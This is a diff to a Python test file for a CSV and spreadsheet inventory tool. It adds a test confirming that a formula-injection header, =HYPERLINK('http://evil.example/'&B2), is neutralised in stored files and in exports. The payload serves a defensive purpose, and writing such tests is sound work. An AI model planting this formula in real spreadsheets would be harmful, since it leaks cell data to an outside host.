@@ -2,16 +2,19 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from functools import cache
 from pathlib import Path
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from tests.real import EXAMPLES, rulebook
+from variants.keeping import Keeper
 from variants.keeping.cells import price_cell, sizes_cell
 from variants.keeping.columns import read_column_words
+from variants.keeping.exporting import csv_bytes, table_of, workbook
 from variants.keeping.lists import ListReader, StuffList
 from variants.keeping.portions import portion, read_sold_as
 from variants.reading import InputError
@@ -48,7 +51,7 @@ def test_titles_and_a_merged_header_are_understood() -> None:
         ("length", "mm"),
         ("amount", ""),
         ("place", ""),
-        ("from whom", ""),
+        ("From whom", ""),
     ]
     assert found.faults == []
     assert found.rows[0].values == {
@@ -58,7 +61,7 @@ def test_titles_and_a_merged_header_are_understood() -> None:
         "sizes": "12-18",
         "amount": "67 feathers",
         "place": "tin trunk",
-        "from whom": "the miller",
+        "From whom": "the miller",
     }
     assert found.rows[1].values["length"] == "7.5 - 11 mm"
     assert [row.line for row in found.rows] == [5, 6, 7, 8, 9, 10]
@@ -189,3 +192,30 @@ def test_things_without_a_name_get_one_each(tmp_path: Path) -> None:
     found = listed(tmp_path, "material,colour\nhen cape,brown\nhen cape,brown\n")
     names = [row.values["item"] for row in found.rows]
     assert names == ["hen cape brown", "hen cape brown 2"]
+
+
+RUNS = '=HYPERLINK("http://evil.example/"&B2)'
+
+
+def test_a_columns_name_is_guarded_as_cells_are_and_keeps_its_capitals(tmp_path: Path) -> None:
+    """What a spreadsheet would run is text in the box and in each export, and reads back."""
+    quoted = RUNS.replace('"', '""')
+    found = listed(tmp_path, f'Name,Material,My Ref,"{quoted}"\na,hen cape,A7,x\n')
+    keeper = Keeper(tmp_path / "box.csv", rulebook().trade)
+    keeper.bring_in([row.values for row in found.rows])
+    header = (tmp_path / "box.csv").read_text("utf-8").splitlines()[0]
+    assert header.endswith(f""",My Ref,"'{quoted}\"""")
+    assert keeper.row("a")["my ref"] == "A7"
+    for separator in (",", ";", "\t"):
+        out = tmp_path / "out.csv"
+        out.write_bytes(csv_bytes(table_of(keeper.path), separator))
+        (names, _) = csv.reader(out.read_text("utf-8-sig").splitlines(), delimiter=separator)
+        assert names[-2:] == ["My Ref", f"'{RUNS}"]
+        assert table_of(out) == table_of(keeper.path)
+    book = load_workbook(io.BytesIO(workbook(table_of(keeper.path))))
+    assert [cell.value for cell in book.active[1]][-2:] == ["My Ref", f"'{RUNS}"]
+    keeper.correct("a", {"MY REF": "A8", RUNS: "y", "Shelf No": "3"})
+    assert table_of(keeper.path)[0][-3:] == ["My Ref", f"'{RUNS}", "Shelf No"]
+    assert keeper.row("a")["my ref"] == "A8"
+    keeper.undo()
+    assert keeper.row("a")["my ref"] == "A7"
